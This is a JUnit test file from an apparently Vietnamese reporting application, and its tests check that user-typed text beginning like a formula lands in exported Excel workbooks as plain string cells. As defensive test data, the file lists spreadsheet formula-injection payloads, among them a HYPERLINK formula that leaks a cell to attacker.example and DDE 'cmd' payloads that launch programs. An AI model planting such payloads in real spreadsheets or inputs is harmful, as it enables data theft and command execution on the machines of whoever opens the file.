package vn.chiso.report;

import java.io.IOException;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.junit.jupiter.api.Test;

import vn.chiso.progress.Implementation;
import vn.chiso.progress.TaskStatus;
import vn.chiso.progress.TaskStatusRow;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Formula injection: text that users typed and that starts like a formula (=, +, -, @) reaches the report workbooks as
 * a plain string cell, exactly as typed, never as a formula Excel would evaluate. (No prefix is added: Vietnamese
 * plans write list items as "- …" and "+ …", which must come out unchanged; a string cell is not evaluated when the
 * file is opened.)
 */
class FormulaInjectionTests {

	static final List<String> FORMULAS = List.of("=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Bấm vào đây\")",
			"=1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0",
			"\t=1+1", "- Rà soát, công khai thủ tục hành chính");

	private final ReportText text = ReportSamples.text();

	private final ReportSettings settings = ReportSamples.settings();

	@Test
	void assignmentTableWritesFormulaLikeTextAsStrings() throws IOException {
		PlanTable plan = plan();
		try (Workbook wb = Workbook.of(out -> new AssignmentTableExport(this.text).write(plan, out))) {
			assertStringsOnly(wb);
		}
	}

	@Test
	void periodReportWritesFormulaLikeResultsAsStrings() throws IOException {
		PlanTable plan = plan();
		Map<Long, TaskStatusRow> results = new LinkedHashMap<>();
		for (PlanTable.Line line : plan.appendices().get(0).lines()) {
			if (line instanceof PlanTable.TaskLine t) {
				results.put(t.id(), new TaskStatusRow(t.id(), 1, t.number(), t.content(), null,
						TaskStatus.NOT_DONE_IN_TIME,
						List.of(new TaskStatusRow.AgencyEntry(t.id(), 100, FORMULAS.get((int) t.id() % FORMULAS.size()),
								true, true, Implementation.DANG_THUC_HIEN, null,
								FORMULAS.get((int) (t.id() + 1) % FORMULAS.size()), TaskStatus.NOT_DONE_IN_TIME))));
			}
		}
		PlanPeriodData data = new PlanPeriodData(plan, "Quý III/2024", "Quy III-2024", 2024, LocalDate.of(2024, 9, 14),
				results, null);
		try (Workbook wb = Workbook.of(
				out -> new PlanPeriodExport(this.text, this.settings).write(data, ReportSamples.DATE, out))) {
			assertStringsOnly(wb);
		}
	}

	@Test
	void selfScoringReportWritesFormulaLikeExplanationsAsStrings() throws IOException {
		List<ReportSamples.Crit> lines = new ArrayList<>();
		lines.add(ReportSamples.crit(1, null, "1", FORMULAS.get(0), "10", null, null, FORMULAS.get(1)));
		for (int i = 0; i < FORMULAS.size(); i++) {
			lines.add(ReportSamples.crit(2 + i, 1L, "1." + (i + 1), FORMULAS.get(i), "1", "1", "1",
					FORMULAS.get((i + 1) % FORMULAS.size())));
		}
		ScoringData sample = ReportSamples.scoring(FORMULAS.get(0), lines, BigDecimal.TEN);
		// explanations and evidence typed by agencies, formula-like
		List<vn.chiso.scoring.ScorecardRow> rows = sample.scorecard()
			.rows()
			.stream()
			.map(r -> new vn.chiso.scoring.ScorecardRow(r.criterionId(), r.code(), r.name(), r.depth(), r.area(),
					r.scorable(), r.max(), r.self(), r.appraised(), r.lost(), r.previous(), r.change(),
					r.scorableCount(), r.scoredCount(), r.appraisedCount(), r.agencyId(), r.agencyName(), r.status(),
					r.late(), FORMULAS.get((int) (r.criterionId() % FORMULAS.size()))))
			.toList();
		Map<Long, String> evidence = new java.util.HashMap<>();
		rows.forEach(r -> evidence.put(r.criterionId(), FORMULAS.get((int) ((r.criterionId() + 1) % FORMULAS.size()))));
		vn.chiso.scoring.Scorecard card = sample.scorecard();
		ScoringData data = new ScoringData(new vn.chiso.scoring.Scorecard(card.round(), null, rows, card.total(),
				card.projection(), card.submittedAreas(), card.areas()), evidence);
		try (Workbook wb = Workbook.of(
				out -> new SelfScoringExport(this.text, this.settings).write(data, ReportSamples.DATE, out))) {
			assertStringsOnly(wb);
		}
	}

	/** No exporter builds a formula: nothing in the application calls POI's formula API. */
	@Test
	void noApplicationCodeWritesFormulas() throws IOException {
		try (Stream<Path> sources = Files.walk(Path.of("src/main/java"))) {
			for (Path source : sources.filter(p -> p.toString().endsWith(".java")).toList()) {
				String java = Files.readString(source, StandardCharsets.UTF_8);
				assertThat(java).as(source.toString())
					.doesNotContain("setCellFormula", "CellType.FORMULA)", "setCellType(CellType.FORMULA",
							"FormulaEvaluator", "evaluateAll", "setForceFormulaRecalculation(true)");
			}
		}
	}

	private static PlanTable plan() {
		List<PlanTable.Line> lines = new ArrayList<>();
		lines.add(new PlanTable.Group(2, "A", FORMULAS.get(0), "PAR_INDEX"));
		for (int i = 0; i < FORMULAS.size(); i++) {
			lines.add(ReportSamples.task(i + 1, String.valueOf(i + 1), FORMULAS.get(i),
					FORMULAS.get((i + 1) % FORMULAS.size()), FORMULAS.get((i + 2) % FORMULAS.size()),
					FORMULAS.get((i + 3) % FORMULAS.size()), FORMULAS.get((i + 4) % FORMULAS.size()),
					FORMULAS.get((i + 5) % FORMULAS.size()), null));
		}
		return new PlanTable(7, "150/KH-UBND", FORMULAS.get(1), LocalDate.of(2024, 8, 12), FORMULAS.get(2),
				List.of(new PlanTable.Appendix("Phụ lục 01", FORMULAS.get(3), lines)));
	}

	/** No formula cell anywhere; every formula-like text appears, as a string cell, unchanged. */
	private static void assertStringsOnly(Workbook wb) {
		List<String> strings = new ArrayList<>();
		for (Sheet sheet : wb.book) {
			for (Row row : sheet) {
				for (Cell cell : row) {
					assertThat(cell.getCellType()).as(sheet.getSheetName() + "!" + cell.getAddress())
						.isNotEqualTo(CellType.FORMULA);
					if (cell.getCellType() == CellType.STRING) {
						strings.add(cell.getStringCellValue());
					}
				}
			}
		}
		String all = String.join("\n", strings);
		for (String formula : FORMULAS) {
			assertThat(all).as("written as text: " + formula).contains(formula.strip());
		}
	}

}
